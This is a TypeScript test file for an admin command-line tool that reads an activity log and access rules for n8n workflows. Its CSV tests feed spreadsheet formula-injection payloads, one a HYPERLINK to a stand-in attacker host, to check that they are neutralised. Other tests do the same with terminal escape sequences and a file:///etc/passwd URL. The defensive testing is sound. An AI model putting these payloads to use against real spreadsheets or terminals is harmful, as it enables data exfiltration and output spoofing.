/** `npm run admin audit`, `users`, `index` and `access`: arguments, tables, and CSV that is safe to open. */
import { describe, expect, test } from "vitest";
import {
  readAccessArguments,
  readAuditArguments,
  readIndexArguments,
  readUsersArguments,
} from "../../scripts/operator/arguments.ts";
import { CSV_HEADER, toCsvLine } from "../../scripts/operator/audit-csv.ts";
import type { AccessReport } from "../../scripts/operator/operator-client.ts";
import { renderAudit, renderGrants } from "../../scripts/operator/render.ts";
import { renderAccess } from "../../scripts/operator/render-access.ts";
import { renderIndexes } from "../../scripts/operator/render-index.ts";
import type { KeptEntry } from "../../src/activity-log/entry.ts";
import { indexReport } from "../support/index-report.ts";

const NOW = Date.parse("2026-11-20T08:00:00.000Z");

const CALL: KeptEntry = {
  event: "tool_call",
  time: "2026-11-20T07:00:00.000Z",
  callId: "0f8fad5b-d9cb-469f-a165-70867728950e",
  userId: "ada",
  clientId: "client-1",
  clientName: "Claude",
  tool: "get_execution",
  ids: { instance: "prod", executionId: "34" },
  outcome: "success",
  durationMs: 12,
  bytesRead: 4_000,
  redactions: { password: 2, "api-key": 1 },
};

describe("the arguments of npm run admin audit", () => {
  test("become a query with absolute times", () => {
    expect(readAuditArguments(["--since", "24h", "--user", "ada", "--csv"], NOW)).toMatchObject({
      kind: "run",
      options: { query: { since: "2026-11-19T08:00:00.000Z", userId: "ada" }, form: "csv" },
    });
    expect(readAuditArguments(["--instance", "staging"], NOW)).toMatchObject({
      options: { query: { instance: "staging" } },
    });
    expect(readAuditArguments(["--until", "2026-11-20"], NOW)).toMatchObject({
      options: { query: { until: "2026-11-20T00:00:00.000Z" }, form: "table" },
    });
  });

  test.each([
    [["--since", "yesterday"]],
    [["--since", "10"]],
    [["--csv", "--json"]],
    [["--url", "file:///etc/passwd"]],
    [["something"]],
    [["--nonsense"]],
  ])("%j are refused", (args) => {
    expect(readAuditArguments(args, NOW).kind).toBe("wrong");
  });
});

describe("the arguments of npm run admin users", () => {
  test("list, or revoke one id", () => {
    expect(readUsersArguments([])).toMatchObject({ options: { revoke: undefined } });
    expect(readUsersArguments(["revoke", "ada"])).toMatchObject({ options: { revoke: "ada" } });
  });

  test.each([[["revoke"]], [["revoke", "ada", "bob"]], [["remove", "ada"]], [["ada"]]])(
    "%j are refused, so nothing is revoked by mistake",
    (args) => {
      expect(readUsersArguments(args).kind).toBe("wrong");
    },
  );
});

describe("the arguments of npm run admin index", () => {
  test("select the server and the format", () => {
    expect(readIndexArguments([])).toMatchObject({ kind: "run", options: { form: "table", url: undefined } });
    expect(readIndexArguments(["--json", "--url", "http://localhost:8787"])).toMatchObject({
      options: { form: "json", url: "http://localhost:8787" },
    });
    expect(readIndexArguments(["--help"]).kind).toBe("help");
  });

  test.each([[["wake"]], [["--csv"]], [["--url", "ftp://localhost"]]])("%j are refused", (args) => {
    expect(readIndexArguments(args).kind).toBe("wrong");
  });
});

describe("CSV", () => {
  const cellsOf = (entry: KeptEntry): Record<string, string> => {
    const cells = toCsvLine(entry).split(",");
    return Object.fromEntries(CSV_HEADER.split(",").map((column, index) => [column, cells[index] ?? ""]));
  };

  test("has a column for each member", () => {
    expect(cellsOf(CALL)).toMatchObject({
      userId: "ada",
      tool: "get_execution",
      executionId: "34",
      instance: "prod",
      durationMs: "12",
      redactions: "password 2; api-key 1",
    });
    for (const entry of [CALL, { event: "sign_in_flood", time: CALL.time, notKept: 3 } as const]) {
      const known = new Set([...CSV_HEADER.split(","), "ids", "callId"]);
      expect(Object.keys(entry).filter((member) => !known.has(member))).toEqual([]);
    }
  });

  test.each([
    '=HYPERLINK("https://evil.example?x="&A1;"click")',
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    " =1+1",
    "\t=1",
    "|calc",
    "%0A=1",
  ])("a client named %j is no formula", (clientName) => {
    const line = toCsvLine({ ...CALL, clientName });
    const cell = /,client-1,(.*),get_execution,/.exec(line)?.[1] ?? "";
    expect(cell.slice(0, 2)).toBe(`"'`);
  });

  test("quotes, commas and line breaks stay in their cell", () => {
    const line = toCsvLine({ ...CALL, clientName: 'a "b", c\r\n=1+1' });
    expect(line).toContain(',"a ""b"", c\r\n=1+1",');
  });
});

describe("tables", () => {
  test("show calls, sign-ins and floods", () => {
    const text = renderAudit([
      CALL,
      {
        event: "sign_in",
        time: CALL.time,
        outcome: "refresh_refused",
        via: "oidc",
        userId: "bob",
        reason: "not_listed",
      },
      { event: "sign_in_flood", time: CALL.time, notKept: 3 },
    ]);
    expect(text.split("\n")).toHaveLength(4);
    expect(text).toMatch(
      /ada +Claude +get_execution +success +instance prod executionId 34 +12 +4000 +password 2; api-key 1/,
    );
    expect(text).toMatch(/bob +– +sign-in \(oidc\) +refresh_refused \(not_listed\)/);
    expect(text).toContain("3 more that day, not kept");
  });

  test("contain no control characters from a client's name", () => {
    const clientName = "\u001b[2J\u202eClaude\nadmin";
    const text = renderAudit([{ ...CALL, clientName }]);
    expect(text.split("\n")).toHaveLength(2);
    expect(text).not.toMatch(/\p{Cf}|\p{Cc}(?<!\n)/u);
    const grant = {
      userId: "\u001b[2Jada",
      grantId: "grant-1",
      clientId: "client-1",
      clientName,
      via: "oidc",
      scopes: ["n8n:read"],
      createdAt: CALL.time,
      expiresAt: null,
      lastUsedAt: null,
    };
    expect(renderGrants([grant])).not.toMatch(/\p{Cf}|\p{Cc}(?<!\n)/u);
    expect(renderGrants([])).toMatch(/Nobody is signed in/);
  });
});

describe("the history index", () => {
  const INDEX = indexReport({
    head: { id: "12345", startedAt: "2026-11-20T07:59:00.000Z" },
    floor: { id: "7", startedAt: "2026-10-21T08:00:00.000Z" },
    known: 12_300,
    rows: { deleted: 0, unread: 2, partlyRead: 0 },
    sizeBytes: 4_520_000,
    syncedAt: "2026-11-20T07:59:40.000Z",
    lastFailure: { code: "N8N_UNREACHABLE", at: "2026-11-20T03:00:00.000Z", isOver: true },
    nextStepAt: "2026-11-20T08:00:40.000Z",
    costs: {
      since: "2026-11-01T00:00:00.000Z",
      background: { requests: 1, bytes: 999, executions: 12_000 },
      people: { requests: 40, bytes: 2_500_000_000, executions: 1 },
    },
  });

  test("is shown line by line", () => {
    expect(renderIndexes([INDEX]).split("\n")).toEqual([
      "history index     default",
      "newest known      execution 12345, 2026-11-20 07:59:00 UTC",
      "known back to     execution 7, 2026-10-21 08:00:00 UTC",
      "executions        12,300 known, 2 that n8n fails to give",
      "size              4.5 MB of 5.0 GB at most",
      "looked at n8n     2026-11-20 07:59:40 UTC",
      "last failure      N8N_UNREACHABLE, 2026-11-20 03:00:00 UTC: over",
      "next step         2026-11-20 08:00:40 UTC",
      "asked by itself   1 request, 999 bytes, 12000 executions read",
      "asked for people  40 requests, 2.5 GB, 1 execution read",
      "counted since     2026-11-01 00:00:00 UTC",
      "settings          INDEX_INTERVAL=60 INDEX_DAYS=30 INDEX_MAX_EXECUTIONS=500000",
    ]);
  });

  test("that is empty and has no schedule says so", () => {
    const empty = indexReport({
      sizeBytes: INDEX.sizeBytes,
      settings: { ...INDEX.settings, intervalMs: null },
    });
    const text = renderIndexes([{ ...INDEX, isWhole: true }, empty]);
    expect(text).toContain("UTC: n8n has nothing older");
    expect(text).toMatch(/newest known +–\n/);
    expect(text).toMatch(/last failure +none\nnext step +only when somebody asks\n/);
    expect(text).toContain("INDEX_INTERVAL=off");
    expect(text.split("\n\n")).toHaveLength(2);
  });

  test("that takes smaller steps after some were cut off says so", () => {
    const text = renderIndexes([{ ...INDEX, step: { executions: 500, isOver: true } }]);
    expect(text).toContain(
      "next step         2026-11-20 08:00:40 UTC; it reads 500 executions at once: steps with more were cut off",
    );
  });

  test("that fails is shown with its error, beside the others", () => {
    const failed = { instance: "staging", error: { code: "TOOL_EXECUTION_FAILED", message: "No storage." } };
    expect(renderIndexes([failed, INDEX]).split("\n").slice(0, 3)).toEqual([
      "history index    staging",
      "cannot be shown  TOOL_EXECUTION_FAILED: No storage.",
      "",
    ]);
  });

  test("is printed without control characters of its name", () => {
    expect(renderIndexes([{ ...INDEX, instance: "\u001b[2J\u202ex" }])).not.toMatch(/\p{Cf}|\p{Cc}(?<!\n)/u);
  });
});

const ENTRA = "0f8fad5b-d9cb-469f-a165-70867728950e/7c9e6679-7425-40de-944b-e07fc1f90ae7";

describe("the arguments of npm run admin access", () => {
  test.each([
    ["Ada@Example.com", { email: "ada@example.com", group: "Ada@Example.com" }],
    ["support", { group: "support" }],
    ["token:pager", { token: "pager" }],
    ["oidc-admins", { id: "oidc-admins", group: "oidc-admins" }],
    [ENTRA.toUpperCase(), { id: ENTRA, group: ENTRA.toUpperCase() }],
  ])("%s names all that it may mean, as a rule does", (who, meant) => {
    expect(readAccessArguments([who])).toMatchObject({ kind: "run", options: { who: meant, form: "table" } });
  });

  test.each([[[]], [["ada@example.com", "support"]], [["--csv", "support"]], [["token:"]], [[""]]])(
    "%j are refused",
    (args) => {
      expect(readAccessArguments(args).kind).toBe("wrong");
    },
  );
});

describe("the output of npm run admin access", () => {
  const report: AccessReport = {
    keys: "shared",
    hasRules: true,
    scopes: ["n8n:read", "n8n:data"],
    rules: [
      { number: 2, see: { workflows: { tags: ["orders"] } }, scopes: ["n8n:read"] },
      { number: 5, see: {}, scopes: ["n8n:read", "n8n:data"] },
    ],
    instances: [
      {
        instance: "prod",
        all: false,
        workflows: [
          { id: "w1", name: "Order intake", data: false },
          { id: "w2", name: "crm\u001b[31m.sync", data: true },
        ],
        unreported: ["folders"],
        unmatched: ["tags Orders"],
      },
      { instance: "lab", all: true, workflows: [], unreported: [], unmatched: [] },
      { instance: "old", error: { code: "N8N_UNREACHABLE", message: "n8n does not answer." } },
    ],
  };

  test("lists each rule and each instance's workflows, without control characters of their names", () => {
    expect(renderAccess(report).split("\n")).toEqual([
      "2 rules mean them, at most with n8n:read n8n:data:",
      '  rule 2: {"workflows":{"tags":["orders"]}} n8n:read',
      "  rule 5: {} n8n:read n8n:data",
      "prod: 2 workflows",
      "  w1 Order intake",
      expect.not.stringContaining("\u001b"),
      "  n8n does not report folders, so a rule that selects by them gives nothing.",
      "  no workflow here has what a rule names: tags Orders",
      "lab: every workflow",
      "old: cannot be shown: n8n does not answer.",
    ]);
    expect(renderAccess(report)).toContain("(with payload)");
  });

  test.each([
    [{ scopes: [], rules: [], instances: [] }, "No rule means them, or there is no such service token"],
    [{ scopes: [], hasRules: false, rules: [], instances: [] }, "there is no such service token"],
    [{ hasRules: false }, "There are no access rules: whoever may sign in sees every workflow."],
    [{ keys: "personal" as const }, "N8N_KEYS is personal: each person sees the workflows"],
  ])("is a sentence when there is nothing to list: %j", (changes, sentence) => {
    expect(renderAccess({ ...report, ...changes })).toContain(sentence);
  });
});
